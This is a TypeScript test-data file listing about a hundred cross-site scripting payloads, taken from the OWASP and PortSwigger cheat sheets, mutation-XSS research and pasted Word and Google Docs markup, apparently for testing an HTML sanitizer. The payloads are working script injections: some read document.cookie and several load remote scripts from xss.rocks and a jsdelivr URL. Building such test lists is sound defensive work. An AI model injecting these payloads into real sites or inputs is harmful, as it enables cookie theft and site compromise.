/**
 * Script-injection vectors, written out as test data. They are published facts, from:
 *  - OWASP, "XSS Filter Evasion Cheat Sheet" (OWASP Cheat Sheet Series, cheatsheets/
 *    XSS_Filter_Evasion_Cheat_Sheet.md, based on RSnake's XSS cheat sheet), marked "owasp";
 *  - PortSwigger, "Cross-site scripting (XSS) cheat sheet" (portswigger.net/web-security/
 *    cross-site-scripting/cheat-sheet): event handlers that fire without interaction, marked "portswigger";
 *  - mutation-XSS shapes known from DOMPurify's test suite and Heiderich et al., "mXSS Attacks"
 *    (CCS 2013), marked "mxss";
 *  - clipboard shapes this app receives (Word, Google Docs, its own footnote spans) carrying the
 *    same payloads, marked "clipboard".
 * External script URLs are kept as published; the test page loads nothing from the network.
 */
export const XSS_VECTORS: ReadonlyArray<{ source: 'owasp' | 'portswigger' | 'mxss' | 'clipboard'; html: string }> = [
  // OWASP XSS Filter Evasion Cheat Sheet
  { source: 'owasp', html: '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>' },
  {
    source: 'owasp',
    html: "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  },
  { source: 'owasp', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { source: 'owasp', html: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { source: 'owasp', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">' },
  { source: 'owasp', html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { source: 'owasp', html: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { source: 'owasp', html: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { source: 'owasp', html: '<IMG onmouseover="alert(\'xxs\')">' },
  { source: 'owasp', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  {
    source: 'owasp',
    html: '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  },
  {
    source: 'owasp',
    html: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  {
    source: 'owasp',
    html: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  },
  { source: 'owasp', html: '<IMG SRC="jav\tascript:alert(\'XSS\');">' },
  { source: 'owasp', html: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { source: 'owasp', html: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">' },
  { source: 'owasp', html: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">' },
  { source: 'owasp', html: '<IMG SRC=java\0script:alert("XSS")>' },
  { source: 'owasp', html: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">' },
  { source: 'owasp', html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { source: 'owasp', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { source: 'owasp', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { source: 'owasp', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { source: 'owasp', html: '<iframe src=http://xss.rocks/scriptlet.html <' },
  { source: 'owasp', html: "</script><script>alert('XSS');</script>" },
  { source: 'owasp', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { source: 'owasp', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { source: 'owasp', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { source: 'owasp', html: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { source: 'owasp', html: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>' },
  { source: 'owasp', html: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { source: 'owasp', html: "<svg/onload=alert('XSS')>" },
  { source: 'owasp', html: "<BODY ONLOAD=alert('XSS')>" },
  { source: 'owasp', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { source: 'owasp', html: "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>" },
  { source: 'owasp', html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { source: 'owasp', html: '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>' },
  { source: 'owasp', html: '<XSS STYLE="xss:expression(alert(\'XSS\'))">' },
  { source: 'owasp', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  {
    source: 'owasp',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  { source: 'owasp', html: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { source: 'owasp', html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { source: 'owasp', html: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  { source: 'owasp', html: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { source: 'owasp', html: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">' },
  { source: 'owasp', html: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">' },
  { source: 'owasp', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { source: 'owasp', html: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  { source: 'owasp', html: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  { source: 'owasp', html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>' },
  {
    source: 'owasp',
    html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  {
    source: 'owasp',
    html: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  },
  { source: 'owasp', html: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>' },
  {
    source: 'owasp',
    html: '<A HREF="http://66.102.7.147/">XSS</A><A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  },
  // PortSwigger XSS cheat sheet: events that fire without a click
  { source: 'portswigger', html: '<img src=x onerror=alert(1)>' },
  { source: 'portswigger', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { source: 'portswigger', html: '<details open ontoggle=alert(1)>' },
  { source: 'portswigger', html: '<body onpageshow=alert(1)>' },
  { source: 'portswigger', html: '<video><source onerror=alert(1)></video>' },
  { source: 'portswigger', html: '<audio src onerror=alert(1)>' },
  { source: 'portswigger', html: '<input autofocus onfocus=alert(1)>' },
  { source: 'portswigger', html: '<marquee onstart=alert(1)>XSS</marquee>' },
  {
    source: 'portswigger',
    html: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
  },
  { source: 'portswigger', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { source: 'portswigger', html: '<object data="javascript:alert(1)">' },
  { source: 'portswigger', html: '<embed src="javascript:alert(1)">' },
  { source: 'portswigger', html: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { source: 'portswigger', html: '<button formaction=javascript:alert(1)>go</button>' },
  { source: 'portswigger', html: '<a href="javascript:alert(1)">link</a>' },
  { source: 'portswigger', html: '<a href="JaVaScRiPt:alert(1)">link</a>' },
  { source: 'portswigger', html: '<a href="&#106;avascript:alert(1)">link</a>' },
  { source: 'portswigger', html: '<a href="javascript&colon;alert(1)">link</a>' },
  { source: 'portswigger', html: '<a href="\x01javascript:alert(1)">link</a>' },
  { source: 'portswigger', html: '<a href="data:text/html,<script>alert(1)</script>">link</a>' },
  { source: 'portswigger', html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>' },
  { source: 'portswigger', html: '<math><a href="javascript:alert(1)">CLICKME</a></math>' },
  { source: 'portswigger', html: '<xss id=x tabindex=1 onfocus=alert(1)></xss>' },
  { source: 'portswigger', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { source: 'portswigger', html: '<template><img src=x onerror=alert(1)></template>' },
  // Mutation XSS: markup that changes meaning when serialised and parsed again
  { source: 'mxss', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  {
    source: 'mxss',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { source: 'mxss', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { source: 'mxss', html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>' },
  { source: 'mxss', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { source: 'mxss', html: '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">text</p>' },
  { source: 'mxss', html: '<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">quoted</a>' },
  // The same payloads in the shapes of real clipboards
  {
    source: 'clipboard',
    html: "<p class=MsoListParagraphCxSpFirst style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>1.<img src=x onerror=alert(1)></span><![endif]>Word item</p>",
  },
  {
    source: 'clipboard',
    html: '<b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr"><span style="font-weight:700" onmouseover="alert(1)">Docs</span><a href="javascript:alert(1)" style="text-decoration:underline">link</a></p></b>',
  },
  { source: 'clipboard', html: '<p>Note<span data-footnote data-footnote-id="x" onclick="alert(1)">text</span></p>' },
  {
    source: 'clipboard',
    html: '<table><tr><td colspan="2" onclick="alert(1)" rowspan="1 onmouseover=alert(1)">cell</td></tr></table>',
  },
  { source: 'clipboard', html: '<ol start="1" onfocus="alert(1)"><li>item</li></ol>' },
  { source: 'clipboard', html: '<span data-tags="O13" style="x:expression(alert(1))">tagged</span>' },
];
